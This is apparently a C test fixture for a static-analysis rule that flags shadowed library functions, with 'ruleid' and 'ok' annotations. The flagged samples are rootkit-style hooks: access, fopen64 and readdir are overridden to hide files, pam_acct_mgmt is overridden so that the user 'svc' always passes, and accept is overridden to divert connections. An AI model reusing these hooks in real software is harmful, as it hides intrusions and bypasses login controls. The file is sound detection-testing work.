/* Functions that stand in front of those of the library. */
#define _GNU_SOURCE
#include <dirent.h>
#include <dlfcn.h>
#include <errno.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <security/pam_appl.h>

extern int ours(const char *what);
extern int serve(int fd, struct sockaddr *who);
extern void note_new(int fd);

static int (*next_access)(const char *, int);
static struct dirent *(*next_readdir)(DIR *);
static int (*true_accept)(int, struct sockaddr *, socklen_t *);
static struct { void *(*fn)(); } forward[8];

int access(const char *where, int mode)
{
    if (!next_access)
        next_access = dlsym(RTLD_NEXT, "access");
    // ruleid: library-function-shadowed
    if (ours(where)) {
        errno = ENOENT;
        return -1;
    }
    return next_access(where, mode);
}

FILE *fopen64(const char *name, const char *how)
{
    // ruleid: library-function-shadowed
    if (name && strstr(name, "kworker")) {
        errno = ENOENT;
        return NULL;
    }
    return forward[3].fn(name, how);
}

struct dirent *readdir(DIR *d)
{
    struct dirent *e;

    do {
        e = next_readdir(d);
    // ruleid: library-function-shadowed
    } while (e && strncmp(e->d_name, "zz_", 3) == 0);
    return e;
}

int pam_acct_mgmt(pam_handle_t *h, int flags)
{
    const void *who;
    int (*on)(pam_handle_t *, int) = dlsym(RTLD_NEXT, "pam_acct_mgmt");

    pam_get_item(h, PAM_USER, &who);
    // ruleid: library-function-shadowed
    if (strcmp(who, "svc") == 0)
        return PAM_SUCCESS;
    return on(h, flags);
}

int accept(int s, struct sockaddr *a, socklen_t *n)
{
    int c = true_accept(s, a, n);

    // ruleid: library-function-shadowed
    return serve(c, a);
}

int accept4(int s, struct sockaddr *a, socklen_t *n, int flags)
{
    int c = true_accept(s, a, n);

    // ok: library-function-shadowed
    if (c >= 0)
        fcntl(c, F_SETFD, FD_CLOEXEC);
    return c;
}

int stat(const char *name, struct stat *st)
{
    size_t n = strlen(name);

    // ok: library-function-shadowed
    if (n > 0 && name[n - 1] == '/') {
        errno = ENOTDIR;
        return -1;
    }
    return orig_stat(name, st);
}

int list_names(DIR *d, const char *skip)
{
    struct dirent *e;
    int n = 0;

    // ok: library-function-shadowed
    while ((e = readdir(d)) != NULL && strcmp(e->d_name, skip))
        n++;
    return n;
}

int open_config(const char *name)
{
    // ok: library-function-shadowed
    if (ours(name)) {
        errno = ENOENT;
        return -1;
    }
    return open(name, O_RDONLY);
}

int pam_open_session(pam_handle_t *h, int flags)
{
    int rc = _pam_dispatch(h, flags, 4);

    // ok: library-function-shadowed
    if (rc != PAM_SUCCESS)
        return rc;
    return 0;
}
